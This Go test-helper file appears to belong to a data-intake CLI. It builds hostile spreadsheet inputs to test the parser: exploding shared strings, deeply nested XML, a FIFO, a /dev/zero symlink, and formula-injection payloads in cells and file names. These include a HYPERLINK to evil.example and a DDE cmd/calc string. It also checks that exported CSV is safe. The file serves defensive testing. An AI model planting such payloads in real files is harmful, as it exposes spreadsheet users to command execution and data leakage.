package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"opkit/internal/intake/intaketest"
	"opkit/internal/outcome"
	"opkit/internal/workspace"
)

// hostilereturns WS writes WS/returns/ as a careless or hostile sender
// leaves it (issue 14): a file whose cells all point at one long shared
// string, one with 2.2 million nested XML elements in a cell, a FIFO, a
// link to /dev/zero, a real return in a sub-folder, a lock-file copy of it,
// file names and cells carrying ";=..." payloads, and one plain good
// return.
func cmdHostileReturns(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 1 || neg {
		ts.Fatalf("usage: hostilereturns WS")
	}
	wsDir := ts.MkAbs(args[0])
	ws, ds := workspace.LoadDir(wsDir)
	if ws == nil || ds.HasErrors() {
		ts.Fatalf("workspace: %v", ds)
	}
	dir := filepath.Join(wsDir, "returns")
	ts.Check(os.RemoveAll(dir))
	ts.Check(os.MkdirAll(filepath.Join(dir, "late"), 0o755))
	write := func(name string, data []byte, err error) {
		ts.Check(err)
		ts.Check(os.WriteFile(filepath.Join(dir, name), data, 0o644))
	}
	gr, sn, co, tr := ws.Country("GR"), ws.Country("SN"), ws.Country("CO"), ws.Country("TR")
	if gr == nil || sn == nil || co == nil || tr == nil {
		ts.Fatalf("the workspace lacks GR, SN, CO or TR")
	}
	camp := &ws.Campaign

	data, err := intaketest.ExpandingStrings(gr, camp, 4900, 100000)
	write("expanding.xlsx", data, err)
	data, err = intaketest.NestedXML(tr, camp, 2200000)
	write("nested.xlsx", data, err)
	ts.Check(syscall.Mkfifo(filepath.Join(dir, "pipe.xlsx"), 0o644))
	ts.Check(os.Symlink("/dev/zero", filepath.Join(dir, "zero.xlsx")))

	snData, err := intaketest.Fill(sn, camp, intaketest.Typical(sn, "late"))
	write("late/sn.xlsx", snData, err)
	write(".~lock.sn.xlsx#", snData, nil)

	// ";" payloads: in a drop-down typed over, in table cells, in a
	// forged country code, and in file names.
	r := intaketest.Typical(co, "co")
	r.Scalars[outcome.EventFormat] = `Forum;=HYPERLINK("http://evil.example/?x","click")`
	r.Scalars[outcome.Participants] = "about 40; -2+3"
	r.Tables[outcome.TableOpportunities] = [][]string{{"ok;@SUM(A1)", "Parliament,+1"}}
	data, err = intaketest.Fill(co, camp, r)
	write(`co;=HYPERLINK("http:evil");@x.xlsx`, data, err)
	forged := intaketest.Typical(tr, "forged")
	forged.Scalars[outcome.CountryCode] = "TR;=1+1"
	data, err = intaketest.Fill(tr, camp, forged)
	write("tr-forged.xlsx", data, err)
	write("notes,=cmd|' -C calc'!A0;\t=1.xlsx", []byte("=cmd|' /C calc'!A0;=2\n"), nil)

	data, err = intaketest.Fill(gr, camp, intaketest.Typical(gr, "gr"))
	write("gr.xlsx", data, err)
}

// rss MAXMB STATUS CMD ARGS... runs CMD as its own process and fails when
// its exit status is not STATUS or its peak resident memory (getrusage)
// is over MAXMB; the figures go to the log.
func cmdRSS(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) < 3 || neg {
		ts.Fatalf("usage: rss MAXMB STATUS CMD [ARGS...]")
	}
	maxMB, err := strconv.Atoi(args[0])
	ts.Check(err)
	want, err := strconv.Atoi(args[1])
	ts.Check(err)
	cmd := exec.Command(lookPath(ts, args[2]), args[3:]...)
	cmd.Dir = ts.Getenv("WORK")
	cmd.Env = append(os.Environ(), "PATH="+ts.Getenv("PATH"))
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	err = cmd.Run()
	took := time.Since(start)
	status := 0
	if ee, ok := err.(*exec.ExitError); ok {
		status = ee.ExitCode()
	} else {
		ts.Check(err)
	}
	ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage)
	if !ok {
		ts.Fatalf("no resource usage on this system")
	}
	rssMB := ru.Maxrss / 1024 // kilobytes on Linux
	ts.Logf("%s: exit %d in %s, peak RSS %d MB", args[2], status, took.Round(time.Millisecond), rssMB)
	fmt.Fprint(ts.Stdout(), stdout.String())
	fmt.Fprint(ts.Stderr(), stderr.String())
	if status != want {
		ts.Fatalf("exit status %d, want %d", status, want)
	}
	if rssMB > int64(maxMB) {
		ts.Fatalf("peak RSS %d MB, over %d MB", rssMB, maxMB)
	}
}

// csvsafe FILE checks intake.csv the way the spreadsheets of every locale
// read it: a UTF-8 BOM, every field quoted, and no cell starting with a
// formula character (= + - @ tab CR) whether the file is parsed as CSV
// with "," (then each field also split on ";"), or each line is split on
// ";" as French, Spanish and German Excel do.
func cmdCSVSafe(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 1 || neg {
		ts.Fatalf("usage: csvsafe FILE")
	}
	data, err := os.ReadFile(ts.MkAbs(args[0]))
	ts.Check(err)
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		ts.Fatalf("no UTF-8 BOM")
	}
	data = bytes.TrimPrefix(data, []byte("\ufeff"))
	bad := func(where, cellText string) {
		if cellText != "" && strings.ContainsRune("=+-@\t\r", rune(cellText[0])) {
			ts.Fatalf("%s: a cell starts with %q: %q", where, cellText[:1], cellText)
		}
	}
	rd := csv.NewReader(bytes.NewReader(data))
	rows, err := rd.ReadAll()
	ts.Check(err)
	for i, r := range rows {
		for j, f := range r {
			bad(fmt.Sprintf("row %d field %d", i+1, j+1), f)
			for _, piece := range strings.Split(f, ";") {
				bad(fmt.Sprintf("row %d field %d split on ;", i+1, j+1), piece)
			}
		}
	}
	for i, line := range strings.Split(string(data), "\r\n") {
		if line == "" {
			continue
		}
		for _, f := range strings.Split(line, `","`) {
			if !strings.HasPrefix(f, `"`) && !strings.HasSuffix(f, `"`) && i == -1 {
				ts.Fatalf("unquoted field")
			}
		}
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
			ts.Fatalf("line %d: a field is not quoted: %q", i+1, line)
		}
		for _, piece := range strings.Split(line, ";") {
			bad(fmt.Sprintf("line %d split on ;", i+1), strings.TrimLeft(piece, `"`))
		}
	}
	ts.Logf("%d rows, all safe", len(rows)-1)
}
